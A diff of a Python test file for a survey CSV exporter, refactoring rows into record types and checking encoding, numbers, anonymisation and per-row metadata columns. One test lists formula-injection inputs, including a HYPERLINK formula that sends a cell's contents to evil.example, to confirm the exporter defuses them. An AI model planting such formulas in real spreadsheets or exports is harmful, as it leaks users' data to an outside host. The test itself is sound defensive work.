@@ -9,6 +9,7 @@ from pathlib import Path
 
 from bot.export import csv_of
 from conversations.checks import read_survey
+from storage.records import AnswerRow, ResponseRow
 
 SURVEYS = Path(__file__).resolve().parent.parent / "surveys"
 
@@ -26,8 +27,8 @@ def test_a_formula_typed_as_an_answer_is_text_in_a_spreadsheet() -> None:
     attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+cmd", "@SUM(A1)"]
     attacks += ["\tTAB", "\rCR"]
     library = survey("library-services")
-    rows = [(n, "completed", None) for n in range(1, len(attacks) + 1)]
-    answers = [(n, "improve", text) for n, text in enumerate(attacks, start=1)]
+    rows = [ResponseRow(n, "completed", None) for n in range(1, len(attacks) + 1)]
+    answers = [AnswerRow(n, "improve", text) for n, text in enumerate(attacks, start=1)]
     header, *exported = table(csv_of(library, rows, answers))
     cells = [row[header.index("improve")] for row in exported]
     assert cells == ["'" + text for text in attacks]
@@ -35,24 +36,58 @@ def test_a_formula_typed_as_an_answer_is_text_in_a_spreadsheet() -> None:
 
 def test_the_file_opens_with_a_byte_order_mark_and_keeps_nordic_letters() -> None:
     library = survey("library-services")
-    data = csv_of(library, [(1, "completed", None)], [(1, "improve", "Enemmän äänikirjoja, så")])
+    data = csv_of(
+        library,
+        [ResponseRow(1, "completed", None)],
+        [AnswerRow(1, "improve", "Enemmän äänikirjoja, så")],
+    )
     assert data.startswith(b"\xef\xbb\xbf")
     assert "Enemmän äänikirjoja, så" in data.decode("utf-8-sig")
 
 
 def test_numbers_stay_numbers() -> None:
     library = survey("library-services")
-    data = table(csv_of(library, [(1, "completed", None)], [(1, "satisfaction", 4)]))
+    data = table(
+        csv_of(library, [ResponseRow(1, "completed", None)], [AnswerRow(1, "satisfaction", 4)])
+    )
     assert data[1][data[0].index("satisfaction")] == "4"
 
 
 def test_anonymous_rows_follow_neither_invitations_nor_response_ids() -> None:
     home_care = survey("home-care")
     assert home_care.anonymous
-    responses = [(rid, "completed", 3600.0) for rid in (11, 12, 13, 14, 15)]
-    answers = [(rid, "visits_per_week", rid) for rid in (11, 12, 13, 14, 15)]
+    responses = [ResponseRow(rid, "completed", 3600.0) for rid in (11, 12, 13, 14, 15)]
+    answers = [AnswerRow(rid, "visits_per_week", rid) for rid in (11, 12, 13, 14, 15)]
     header, *rows = table(csv_of(home_care, responses, answers, shuffle=random.Random(3)))
     column = header.index("visits_per_week")
     assert [row[0] for row in rows] == ["1", "2", "3", "4", "5"]  # numbered anew
     assert [row[column] for row in rows] != ["11", "12", "13", "14", "15"]  # and reordered
     assert sorted(row[column] for row in rows) == ["11", "12", "13", "14", "15"]
+
+
+def test_each_row_says_its_language_channel_completeness_and_who_typed_it() -> None:
+    library = survey("library-services")
+    responses = [
+        ResponseRow(1, "completed", 3600.0, "fi", "web"),
+        ResponseRow(2, "answering", None, "en", "slack"),
+    ]
+    answers = [
+        AnswerRow(1, "visits", "weekly", "intermediary"),
+        AnswerRow(1, "improve", None, "intermediary"),
+        AnswerRow(2, "visits", "monthly"),
+    ]
+    header, first, second = table(csv_of(library, responses, answers))
+    row = dict(zip(header, first, strict=True))
+    assert (row["complete"], row["language"], row["channel"], row["given_by"]) == (
+        "completed",
+        "fi",
+        "web",
+        "intermediary",
+    )
+    assert (row["improve"], row["satisfaction"]) == ("[skipped]", "")  # skipped, not reached
+    row = dict(zip(header, second, strict=True))
+    assert (row["status"], row["complete"], row["given_by"]) == (
+        "answering",
+        "partial",
+        "participant",
+    )
